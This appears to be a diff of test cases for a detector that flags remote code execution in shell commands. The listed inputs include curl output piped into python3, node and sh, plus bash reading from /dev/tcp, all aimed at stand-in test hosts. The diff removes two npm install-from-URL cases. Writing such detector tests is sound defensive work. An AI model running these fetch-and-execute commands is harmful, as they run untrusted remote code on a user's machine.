@@ -58,8 +58,6 @@ testDetector(runRemoteCode, {
     { run: "curl https://get.example.test/x.py | python3", findings: ["text"] },
     { run: "curl https://get.example.test/x.js | node", findings: ["text"] },
     { run: "python3 <(curl -s https://get.example.test/x.py)", findings: ["text"] },
-    { run: "npm install https://example.test/pkg.tgz", findings: ["text"] },
-    { run: "npm install git+https://example.test/pkg.git", findings: ["text"] },
     { run: "bash < /dev/tcp/example.test/80", findings: ["text"] },
     { run: "exec 3<>/dev/tcp/example.test/80; bash <&3", findings: ["text"] },
     { run: "bash x.sh", files: { "x.sh": "curl https://x.test/i | sh\n" }, findings: ["text"] },
